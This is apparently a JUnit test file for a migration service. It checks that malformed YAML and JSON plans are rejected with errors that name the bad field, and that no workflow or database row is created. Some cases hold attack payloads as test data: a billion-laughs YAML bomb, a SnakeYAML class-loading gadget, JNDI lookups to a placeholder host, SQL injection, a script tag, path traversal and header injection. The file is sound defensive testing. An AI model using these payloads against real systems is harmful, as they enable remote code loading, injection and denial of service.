package io.kmigrate.api;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.argumentSet;

import com.fasterxml.jackson.databind.JsonNode;
import io.dropwizard.core.cli.Cli;
import io.dropwizard.core.setup.Bootstrap;
import io.dropwizard.testing.junit5.DropwizardAppExtension;
import io.dropwizard.testing.junit5.DropwizardExtensionsSupport;
import io.dropwizard.util.JarLocation;
import io.kmigrate.activities.store.AuditLog;
import io.kmigrate.activities.store.MigrationStore;
import io.kmigrate.api.cli.PlanCommand;
import io.kmigrate.worker.KmigrateRuntime;
import io.kmigrate.worker.TemporalConnection;
import io.temporal.api.workflowservice.v1.ListClosedWorkflowExecutionsRequest;
import io.temporal.api.workflowservice.v1.ListOpenWorkflowExecutionsRequest;
import jakarta.ws.rs.client.Entity;
import jakarta.ws.rs.core.MediaType;
import jakarta.ws.rs.core.Response;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Issue 8, bad plans: each malformed plan below, a variation of config/examples/production-first.yaml
 * (or .json), is refused the same way by {@code POST /api/v1/migrations} (400, JSON problems naming
 * the field) and by {@code plan validate FILE} (exit 1, a line starting with the field), quickly,
 * and nothing starts: no workflow, no row in the migrations table or the audit log.
 */
@ExtendWith(DropwizardExtensionsSupport.class)
class BadPlansTest {
  static final DropwizardAppExtension<KmigrateConfiguration> APP = EmbeddedApp.extension();

  /** Generous for a 2-core machine shared with other builds; a YAML bomb or quadratic scan takes far longer. */
  static final Duration BUDGET = Duration.ofSeconds(5);

  static final String YAML = "application/yaml";
  static final String JSON = MediaType.APPLICATION_JSON;

  /** The name of the example plan: no case below may leave a migration of that name behind. */
  static final String EXAMPLE_NAME = "orders-move";

  static final String EXAMPLE_YAML = read("../config/examples/production-first.yaml");
  static final String EXAMPLE_JSON = read("../config/examples/production-first.json");

  static final String CLIENTS =
      "clients:\n"
          + "  - name: orders-api              # writes orders and order-events\n"
          + "    role: producer\n"
          + "    strategy: routing             # reads its route from GET /api/v1/routes/orders-api\n"
          + "  - name: billing-service\n"
          + "    role: consumer\n"
          + "    strategy: routing\n"
          + "    consumerGroup: orders-billing\n"
          + "  - name: shipping-service\n"
          + "    role: consumer                # strategy defaults to routing\n"
          + "    consumerGroup: orders-shipping\n";
  static final String TOPICS = "topics:\n  - orders\n  - order-events\n";

  @TempDir Path dir;

  static Stream<Arguments> badPlans() {
    return Stream.of(
        // Missing fields
        bad("a plan without a name", yaml("name: orders-move\n", ""), YAML, "name"),
        bad("a plan without a scheme", yaml("scheme: production-first\n", ""), YAML, "scheme"),
        bad("a plan without a source", yaml("source: source\n", ""), YAML, "source"),
        bad("a plan without a target", yaml("target: target\n", ""), YAML, "target"),
        bad("a plan without topics or a topicPattern", yaml(TOPICS, ""), YAML, "topics"),
        bad("a plan without clients", yaml(CLIENTS, ""), YAML, "clients"),
        bad("a consumer client without its consumer group", yaml("    consumerGroup: orders-billing\n", ""), YAML,
            "clients[1].consumerGroup"),
        bad("an empty body", "", YAML, "(plan)"),
        bad("a YAML document that is only null", "~\n", "text/yaml", "(plan)"),

        // Wrong types
        bad("a name that is a list", yaml("name: orders-move", "name: [orders, move]"), YAML, "name"),
        bad("topics given as one string", yaml(TOPICS, "topics: orders\n"), YAML, "topics"),
        bad("a topic that is a map", yaml("  - order-events\n", "  - {topic: order-events}\n"), YAML, "topics[1]"),
        bad("clients given as a map", yaml(CLIENTS, "clients: {orders-api: producer}\n"), YAML, "clients"),
        bad("a null client", yaml("clients:\n", "clients:\n  - null\n"), YAML, "clients[0]"),
        bad("a role that is a number", yaml("role: producer", "role: 7"), YAML, "clients[0].role"),
        bad("a gate's required that is not a boolean", yaml("required: true", "required: maybe"), YAML,
            "gates.producer-cutover.required"),
        bad("a duration given as a list", yaml("maxWait: 1h", "maxWait: [1h]"), YAML, "waits.maxWait"),
        bad("a JSON plan whose scheme is a number", json("\"scheme\": \"production-first\"", "\"scheme\": 1"), JSON, "scheme"),
        bad("a JSON plan whose topics is an object", json("\"topics\": [\"orders\", \"order-events\"]", "\"topics\": {\"orders\": 1}"),
            JSON, "topics"),

        // Unknown clusters, schemes, strategies, fields
        bad("an unknown source cluster", yaml("source: source", "source: nowhere"), YAML, "source"),
        bad("an unknown target cluster", yaml("target: target", "target: prod-eu-1"), YAML, "target"),
        bad("an unknown scheme", yaml("scheme: production-first", "scheme: blue-green"), YAML, "scheme"),
        bad("an unknown strategy", yaml("strategy: routing             #", "strategy: telepathy           #"), YAML,
            "clients[0].strategy"),
        bad("a misspelt field", yaml("consumerGroups:", "consumerGroupz:"), YAML, "consumerGroupz"),
        bad("an unknown gate", yaml("gates:\n", "gates:\n  big-bang: {required: false}\n"), YAML, "gates.big-bang"),
        bad("an unknown timeout action", yaml("onTimeout: abort", "onTimeout: explode"), YAML,
            "gates.producer-cutover.onTimeout"),

        // Illegal topic names and patterns
        bad("a topic name with a space", yaml("  - order-events\n", "  - order events\n"), YAML, "topics[1]"),
        bad("a topic named '..'", yaml("  - orders\n", "  - '..'\n"), YAML, "topics[0]"),
        bad("a topic name of 250 characters", yaml("  - order-events\n", "  - " + "o".repeat(250) + "\n"), YAML, "topics[1]"),
        bad("a topicPattern that is not a regular expression", yaml(TOPICS, "topicPattern: 'orders\\.(('\n"), YAML,
            "topicPattern"),
        bad("both topics and a topicPattern", yaml(TOPICS, TOPICS + "topicPattern: 'orders\\..*'\n"), YAML, "topics"),

        // Duplicates
        bad("a topic listed twice", yaml("  - order-events\n", "  - orders\n"), YAML, "topics[1]"),
        bad("two clients with the same name", yaml("  - name: billing-service", "  - name: orders-api"), YAML,
            "clients[1].name"),
        bad("a consumer group listed twice", yaml("  - orders-shipping\n", "  - orders-billing\n"), YAML,
            "consumerGroups[1]"),
        bad("a YAML key given twice (the last would win)", yaml("target: target\n", "target: target\nsource: target\n"), YAML,
            "source"),
        bad("a JSON key given twice", json("\"target\": \"target\",", "\"target\": \"target\", \"target\": \"elsewhere\","), JSON,
            "target"),

        // Negative, zero and absurd durations
        bad("a negative maxWait", yaml("maxWait: 1h", "maxWait: -5m"), YAML, "waits.maxWait"),
        bad("a zero pollInterval", yaml("pollInterval: 5s", "pollInterval: 0s"), YAML, "waits.pollInterval"),
        bad("a negative number of seconds", yaml("stallAfter: 2m", "stallAfter: -30"), YAML, "waits.stallAfter"),
        bad("a gate timeout of zero", yaml("timeout: 4h", "timeout: 0s"), YAML, "gates.producer-cutover.timeout"),
        bad("a maxWait of a thousand years", yaml("maxWait: 1h", "maxWait: 365000d"), YAML, "waits.maxWait"),
        bad("a maxWait that overflows a long", yaml("maxWait: 1h", "maxWait: 99999999999999999999d"), YAML, "waits.maxWait"),
        bad("a stableFor of 1e300 seconds", yaml("stableFor: 30s", "stableFor: 1e300"), YAML, "waits.stableFor"),
        bad("stableFor shorter than pollInterval", yaml("stableFor: 30s", "stableFor: 1s"), YAML, "waits.stableFor"),
        bad("abort on timeout after producers moved", yaml("onTimeout: keep-waiting", "onTimeout: abort"), YAML,
            "gates.consumer-cutover.onTimeout"),

        // Source = target
        bad("the target is the source", yaml("target: target", "target: source"), YAML, "target"),
        bad("the target is the source through a YAML alias",
            yaml("source: source\ntarget: target", "source: &target source\ntarget: *target"), YAML, "target"),

        // Huge inputs
        bad("a plan over 1 MiB (a 2 MiB comment)", EXAMPLE_YAML + "# " + "x".repeat(2 << 20) + "\n", YAML, "(plan)"),
        bad("a name of 100,000 characters", yaml("name: orders-move", "name: " + "o".repeat(100_000)), YAML, "name"),
        bad("a topic name of 100,000 characters", yaml("  - orders\n", "  - " + "o".repeat(100_000) + "\n"), YAML, "topics[0]"),
        // A 400 lists the first hundred problems in the plan's order (two per topic here) and counts the rest.
        bad("10,000 illegal topics", yaml(TOPICS, "topics:\n" + "  - 'no such topic!'\n".repeat(10_000)), YAML, "topics[49]"),
        bad("topics nested 100,000 levels deep", yaml(TOPICS, "topics: " + "[".repeat(100_000) + "]".repeat(100_000) + "\n"), YAML,
            "topics[0]"),
        bad("a 100,000 levels deep value under an unknown key", EXAMPLE_YAML + "extra: " + "[".repeat(100_000) + "]".repeat(100_000) + "\n",
            YAML, "(plan)"),

        // Bytes that are not (allowed) UTF-8 text
        bad("a Latin-1 byte in the name", latin1(yaml("name: orders-move", "name: orders-\u00e9t\u00e9")), YAML, "(plan)"),
        bad("a stray 0xFF byte in a comment", bytesWith(EXAMPLE_YAML, "# Client groups", (byte) 0xff), YAML, "(plan)"),
        bad("a UTF-16 plan without a byte order mark", EXAMPLE_JSON.getBytes(StandardCharsets.UTF_16LE), JSON, "(plan)"),
        bad("a NUL character in the name", yaml("name: orders-move", "name: orders\u0000move"), YAML, "(plan)"),

        // YAML bombs and anchor abuse
        bad("billion laughs: nine levels of nine aliases", EXAMPLE_YAML.replace(TOPICS, laughs() + "topics: [*lol9]\n"), YAML,
            "topics[0]"),
        bad("a client repeated through an alias", yaml("  - name: billing-service", "  - &billing\n    name: billing-service")
            .replace(CLIENTS.substring(CLIENTS.indexOf("  - name: shipping")), "  - *billing\n"), YAML, "clients[2]"),
        bad("a merge key pulling in other waits", yaml("waits:\n", "slow: &slow {maxWait: 100d}\nwaits:\n  <<: *slow\n"), YAML,
            "waits.<<"),
        bad("a SnakeYAML gadget tag on the name",
            yaml("name: orders-move",
                "name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x.invalid/\"]]]]"),
            YAML, "name"),
        bad("a second YAML document", EXAMPLE_YAML + "---\nname: other-move\n", YAML, "(plan)"),

        // Injection-looking strings
        bad("SQL in the name", yaml("name: orders-move", "name: \"'; drop table migrations; --\""), YAML, "name"),
        bad("a JNDI lookup in the name", yaml("name: orders-move", "name: '${jndi:ldap://x.invalid/a}'"), "application/x-yaml", "name"),
        bad("a script tag as a topic", yaml("  - order-events\n", "  - '<script>alert(1)</script>'\n"), YAML, "topics[1]"),
        bad("a path traversal in the name", yaml("name: orders-move", "name: ../../etc/passwd"), YAML, "name"),
        bad("a header injection in a client name", yaml("  - name: billing-service", "  - name: \"billing\\r\\nX-Admin: true\""),
            YAML, "clients[1].name"),
        bad("a JNDI lookup as a JSON topic", json("\"order-events\"]", "\"${jndi:ldap://x.invalid/a}\"]"), JSON, "topics[1]"),
        bad("a webhook to file:///etc/passwd",
            yaml("    strategy: routing             # reads", "    strategy: webhook\n    webhook: {url: 'file:///etc/passwd'}\n    # reads"),
            YAML, "clients[0].webhook.url"),
        bad("a right-to-left override in a topic", yaml("  - order-events\n", "  - \"order\u202Eevents\"\n"), YAML, "topics[1]"),
        bad("a YAML plan sent as JSON with an unknown cluster", yaml("target: target", "target: nowhere"), JSON, "target"),
        bad("a JSON array instead of a plan", "[" + EXAMPLE_JSON + "]", JSON, "(plan)"),
        bad("JSON cut off between fields", EXAMPLE_JSON.substring(0, EXAMPLE_JSON.indexOf("\"gates\"")), JSON, "(plan)"),
        bad("JSON cut off inside the clients", EXAMPLE_JSON.substring(0, EXAMPLE_JSON.indexOf("{\"name\": \"shipping-service\"")),
            JSON, "clients"));
  }

  @ParameterizedTest(name = "{argumentSetName}: 400 naming {2}")
  @MethodSource("badPlans")
  void theApiRefusesItWith400NamingTheFieldAndStartsNothing(byte[] plan, String contentType, String field) {
    long started = System.nanoTime();
    Response r = APP.client().target(url("/api/v1/migrations")).request().post(Entity.entity(plan, contentType));
    JsonNode body;
    try (r) {
      assertThat(r.getStatus()).as("status").isEqualTo(400);
      assertThat(r.getMediaType().toString()).startsWith(MediaType.APPLICATION_JSON);
      body = r.readEntity(JsonNode.class);
    }
    assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(BUDGET);

    assertThat(body.path("code").asInt()).isEqualTo(400);
    assertThat(body.path("problems").findValuesAsText("field")).contains(field);
    nothingStarted();
  }

  @ParameterizedTest(name = "{argumentSetName}: exit 1 naming {2}")
  @MethodSource("badPlans")
  void planValidateExits1WithALineStartingWithTheField(byte[] plan, String contentType, String field) throws Exception {
    Path file = Files.write(dir.resolve(contentType.equals(JSON) ? "plan.json" : "plan.yaml"), plan);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    ByteArrayOutputStream err = new ByteArrayOutputStream();
    Bootstrap<KmigrateConfiguration> bootstrap = new Bootstrap<>(new KmigrateApplication());
    bootstrap.addCommand(new PlanCommand(new PrintStream(out, true, StandardCharsets.UTF_8)));

    long started = System.nanoTime();
    Optional<Throwable> failure =
        new Cli(new JarLocation(getClass()), bootstrap, new PrintStream(out, true), new PrintStream(err, true))
            .run("plan", "validate", file.toString());

    assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(BUDGET);
    assertThat(failure).as("exit 1").isPresent();
    assertThat(out.toString(StandardCharsets.UTF_8).lines()).anyMatch(l -> l.startsWith(field + ": "));
    assertThat(err.toString()).doesNotContain("Exception");
  }

  /** No workflow at all in this application's Temporal, and no row in the store. */
  static void nothingStarted() {
    assertThat(statusOf(APP.client().target(url("/api/v1/migrations/" + EXAMPLE_NAME)).request().get())).isEqualTo(404);
    TemporalConnection temporal = runtime().temporal();
    String namespace = temporal.client().getOptions().getNamespace();
    assertThat(temporal.service().blockingStub()
        .listOpenWorkflowExecutions(ListOpenWorkflowExecutionsRequest.newBuilder().setNamespace(namespace).build())
        .getExecutionsList()).as("open workflows").isEmpty();
    assertThat(temporal.service().blockingStub()
        .listClosedWorkflowExecutions(ListClosedWorkflowExecutionsRequest.newBuilder().setNamespace(namespace).build())
        .getExecutionsList()).as("closed workflows").isEmpty();

    var jdbi = runtime().database().jdbi();
    assertThat(new MigrationStore(jdbi).find(EXAMPLE_NAME)).isEmpty();
    assertThat(new AuditLog(jdbi).forMigration(EXAMPLE_NAME)).isEmpty();
    assertThat(rows(jdbi, "migrations")).as("rows in migrations").isZero();
    assertThat(rows(jdbi, "audit_log")).as("rows in audit_log").isZero();
  }

  static int rows(org.jdbi.v3.core.Jdbi jdbi, String table) {
    return jdbi.withHandle(h -> h.createQuery("select count(*) from " + table).mapTo(Integer.class).one());
  }

  static Arguments bad(String spec, String plan, String contentType, String field) {
    return bad(spec, plan.getBytes(StandardCharsets.UTF_8), contentType, field);
  }

  static Arguments bad(String spec, byte[] plan, String contentType, String field) {
    return argumentSet(spec, plan, contentType, field);
  }

  /** The YAML example with its first {@code from} replaced; fails if the example no longer holds it. */
  static String yaml(String from, String to) {
    return edit(EXAMPLE_YAML, from, to);
  }

  static String json(String from, String to) {
    return edit(EXAMPLE_JSON, from, to);
  }

  static String edit(String text, String from, String to) {
    int at = text.indexOf(from);
    if (at < 0) {
      throw new IllegalStateException("the example plan no longer contains: " + from);
    }
    return text.substring(0, at) + to + text.substring(at + from.length());
  }

  static byte[] latin1(String text) {
    return text.getBytes(StandardCharsets.ISO_8859_1);
  }

  /** The text's UTF-8 bytes with {@code b} inserted before {@code marker}. */
  static byte[] bytesWith(String text, String marker, byte b) {
    byte[] utf8 = text.getBytes(StandardCharsets.UTF_8);
    int at = text.substring(0, text.indexOf(marker)).getBytes(StandardCharsets.UTF_8).length;
    byte[] out = new byte[utf8.length + 1];
    System.arraycopy(utf8, 0, out, 0, at);
    out[at] = b;
    System.arraycopy(utf8, at, out, at + 1, utf8.length - at);
    return out;
  }

  /** lol1 .. lol9, each a list of nine aliases of the one before: 9^9 strings if expanded. */
  static String laughs() {
    StringBuilder sb = new StringBuilder("lol1: &lol1 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for (int i = 2; i <= 9; i++) {
      sb.append("lol").append(i).append(": &lol").append(i).append(" [")
          .append(String.join(", ", java.util.Collections.nCopies(9, "*lol" + (i - 1)))).append("]\n");
    }
    return sb.toString();
  }

  static KmigrateRuntime runtime() {
    return ((KmigrateApplication) APP.getApplication()).runtime();
  }

  static String url(String path) {
    return "http://127.0.0.1:" + APP.getLocalPort() + path;
  }

  static int statusOf(Response r) {
    try (r) {
      return r.getStatus();
    }
  }

  static String read(String path) {
    try {
      return Files.readString(Path.of(path));
    } catch (java.io.IOException e) {
      throw new IllegalStateException(e);
    }
  }
}
